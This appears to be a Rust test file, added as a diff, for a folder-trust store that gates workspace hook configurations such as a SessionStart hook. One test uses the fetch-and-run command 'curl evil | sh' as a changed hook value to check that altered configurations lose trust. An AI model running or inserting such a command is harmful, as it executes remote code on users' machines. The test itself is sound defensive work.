@@ -1,0 +1,177 @@
+use hostler_driver::{ConfigurationKind, FolderConfiguration};
+
+use super::*;
+
+/// A configuration of one hook.
+fn hook(command: &str) -> WorkspaceConfiguration {
+    let item = ConfigurationItem {
+        kind: ConfigurationKind::Hook,
+        name: "SessionStart".to_owned(),
+        source: ".claude/settings.json".to_owned(),
+        hash: command.to_owned(),
+        blocked: None,
+    };
+    WorkspaceConfiguration { fingerprint: command.to_owned(), items: vec![item], ..Default::default() }
+}
+
+struct Machine {
+    dir: tempfile::TempDir,
+    trusted_folders: Vec<PathBuf>,
+}
+
+impl Machine {
+    fn new() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        for name in ["state", "home/project/sub"] {
+            std::fs::create_dir_all(dir.path().join(name)).unwrap();
+        }
+        Self { dir, trusted_folders: Vec::new() }
+    }
+
+    fn store(&self) -> TrustStore {
+        let options = TrustOptions { trusted_folders: self.trusted_folders.clone(), home: Some(self.path("home")) };
+        TrustStore::open(&self.path("state"), &options)
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        std::fs::canonicalize(self.dir.path()).unwrap().join(name)
+    }
+
+    fn assess(&self, name: &str, command: &str) -> Assessment {
+        self.store().assess(&self.path(name), |_| hook(command)).unwrap()
+    }
+
+    fn decide(&self, name: &str, command: &str, decision: Decision) -> Result<(), TrustError> {
+        self.store().decide(&self.assess(name, command), decision, false)
+    }
+
+    fn state(&self, name: &str, command: &str) -> TrustState {
+        self.assess(name, command).state
+    }
+}
+
+#[test]
+fn a_folder_is_undecided_until_a_person_decides_and_the_decision_survives_a_restart() {
+    let machine = Machine::new();
+    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
+    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
+    let applied = FolderConfiguration::Applied { fingerprint: "make".to_owned() };
+    assert_eq!(machine.assess("home/project", "make").folder_configuration(), applied);
+}
+
+#[test]
+fn a_changed_configuration_is_not_trusted_and_the_difference_is_known() {
+    let machine = Machine::new();
+    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    let changed = machine.assess("home/project", "curl evil | sh");
+    let TrustState::Changed(difference) = &changed.state else { panic!("{:?}", changed.state) };
+    assert_eq!(difference.changed.len(), 1);
+    assert_eq!(changed.folder_configuration(), FolderConfiguration::Ignored);
+    machine.decide("home/project", "curl evil | sh", Decision::Trust).unwrap();
+    assert_eq!(machine.state("home/project", "curl evil | sh"), TrustState::Trusted(TrustedBy::Person));
+    assert!(matches!(machine.state("home/project", "make"), TrustState::Changed(_)), "the old one is not trusted any more");
+}
+
+#[test]
+fn a_restricted_folder_stays_restricted_when_its_configuration_changes() {
+    let machine = Machine::new();
+    machine.decide("home/project", "make", Decision::Restrict).unwrap();
+    assert_eq!(machine.state("home/project", "make"), TrustState::Restricted);
+    assert_eq!(machine.state("home/project", "other"), TrustState::Restricted);
+}
+
+#[test]
+fn subfolders_inherit_only_if_the_person_says_so_and_a_later_change_is_noticed() {
+    let machine = Machine::new();
+    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    assert_eq!(machine.state("home/project/sub", "make"), TrustState::Undecided);
+    machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
+    let parent = TrustedBy::Parent(machine.path("home/project"));
+    let inherited = machine.assess("home/project/sub", "ls");
+    assert_eq!(inherited.state, TrustState::Trusted(parent.clone()));
+    machine.store().note_inherited(&inherited).unwrap();
+    assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Trusted(parent));
+    assert!(matches!(machine.state("home/project/sub", "rm"), TrustState::Changed(_)));
+    assert!(machine.store().remove(&machine.path("home/project")).unwrap());
+    assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Undecided, "what was inherited is gone too");
+}
+
+#[test]
+fn a_name_that_only_begins_like_a_trusted_folder_inherits_nothing() {
+    let machine = Machine::new();
+    std::fs::create_dir_all(machine.path("home/project-evil")).unwrap();
+    machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
+    assert_eq!(machine.state("home/project-evil", "make"), TrustState::Undecided);
+}
+
+#[test]
+fn home_and_root_are_trusted_by_name_only_and_never_with_their_subfolders() {
+    let machine = Machine::new();
+    assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)), "no one is asked about it");
+    assert!(matches!(machine.decide("home", "make", Decision::Trust), Err(TrustError::TooBroad { .. })));
+    let assessment = machine.assess("home", "make");
+    let all = machine.store().decide(&assessment, Decision::TrustSubfolders, true);
+    assert!(matches!(all, Err(TrustError::TooBroadWithSubfolders { .. })));
+    machine.store().decide(&assessment, Decision::Trust, true).unwrap();
+    assert_eq!(machine.state("home", "make"), TrustState::Trusted(TrustedBy::Person));
+    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
+    let root = machine.store().assess(Path::new("/"), |_| hook("make")).unwrap();
+    assert!(matches!(machine.store().decide(&root, Decision::Trust, false), Err(TrustError::TooBroad { .. })));
+}
+
+#[test]
+fn the_host_s_configuration_trusts_folders_below_those_it_names_but_not_below_home() {
+    let mut machine = Machine::new();
+    machine.trusted_folders = vec![machine.path("home/project")];
+    assert_eq!(machine.state("home/project/sub", "make"), TrustState::Trusted(TrustedBy::HostConfiguration));
+    machine.trusted_folders = vec![machine.path("home")];
+    assert_eq!(machine.state("home", "make"), TrustState::Trusted(TrustedBy::HostConfiguration));
+    assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
+}
+
+#[cfg(unix)]
+#[test]
+fn a_link_to_a_trusted_folder_is_that_folder_and_one_that_is_swapped_is_not() {
+    let machine = Machine::new();
+    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    let link = machine.path("link");
+    std::os::unix::fs::symlink(machine.path("home/project"), &link).unwrap();
+    assert_eq!(machine.state("link", "make"), TrustState::Trusted(TrustedBy::Person));
+    std::fs::remove_file(&link).unwrap();
+    std::os::unix::fs::symlink(machine.path("home/project/sub"), &link).unwrap();
+    assert_eq!(machine.state("link", "make"), TrustState::Undecided);
+}
+
+#[test]
+fn a_file_that_cannot_be_read_trusts_nothing_and_is_not_overwritten() {
+    let machine = Machine::new();
+    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    let store = machine.store();
+    let file = machine.path("state").join(FILE);
+    std::fs::write(&file, "folder = nonsense").unwrap();
+    let assessment = store.assess(&machine.path("home/project"), |_| hook("make")).unwrap();
+    assert!(matches!(assessment.state, TrustState::Refused(_)), "{:?}", assessment.state);
+    assert!(matches!(machine.state("home/project", "make"), TrustState::Refused(_)), "after a restart too");
+    assert!(matches!(store.decide(&assessment, Decision::Trust, true), Err(TrustError::File(_))));
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "folder = nonsense");
+}
+
+#[test]
+fn a_configuration_that_cannot_be_applied_cannot_be_trusted() {
+    let machine = Machine::new();
+    let broken = WorkspaceConfiguration { problem: Some("settings.json is not JSON".to_owned()), ..hook("make") };
+    let assessment = machine.store().assess(&machine.path("home/project"), |_| broken).unwrap();
+    assert!(matches!(assessment.state, TrustState::Refused(_)));
+    let decided = machine.store().decide(&assessment, Decision::Trust, true);
+    assert!(matches!(decided, Err(TrustError::Problem { .. })));
+}
+
+#[test]
+fn a_folder_without_configuration_needs_no_decision() {
+    let machine = Machine::new();
+    let empty = machine.store().assess(&machine.path("home"), |_| WorkspaceConfiguration::default()).unwrap();
+    assert_eq!(empty.state, TrustState::Empty);
+    let missing = machine.store().assess(&machine.path("nowhere"), |_| WorkspaceConfiguration::default());
+    assert!(matches!(missing, Err(TrustError::NotAFolder { .. })));
+}
